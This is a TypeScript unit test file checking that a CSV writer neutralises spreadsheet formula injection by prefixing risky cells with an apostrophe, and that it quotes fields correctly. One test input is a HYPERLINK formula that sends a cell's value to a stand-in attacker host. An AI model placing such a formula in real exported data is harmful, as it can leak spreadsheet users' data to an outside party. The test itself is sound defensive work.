import { describe, expect, test } from 'vitest';
import { csvLine } from './csv.ts';

describe('a cell that a spreadsheet could take for a formula', () => {
  test.each([
    '=HYPERLINK("https://evil.example/?"&A1;"Open")',
    '=1+1',
    '+1 (212) 555-0147',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '"=1"',
    "'=1",
    '“=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '−1',
  ])('begins with an apostrophe: %j', (text) => {
    const line = csvLine([text]);
    const cell = line
      .slice(0, -2)
      .replace(/^"([^]*)"$/, '$1')
      .replaceAll('""', '"');
    expect(cell).toBe(`'${text}`);
  });

  test.each(['Ana', "O'Neill", '2026-01-05', '(212) 555-0147', '#14', 'a=b', 'x@example.com', '1-2'])(
    'is not %j',
    (text) => {
      expect(csvLine([text])).toBe(`${text}\r\n`);
    },
  );
});

test('numbers of our own stay numbers, nothing is empty, and text that needs it is quoted', () => {
  expect(csvLine([-120.5, 0, null, '', 'a,b', 'say "x"', 'one\r\ntwo', ' edge '])).toBe(
    '-120.5,0,,"","a,b","say ""x""","one\r\ntwo"," edge "\r\n',
  );
});
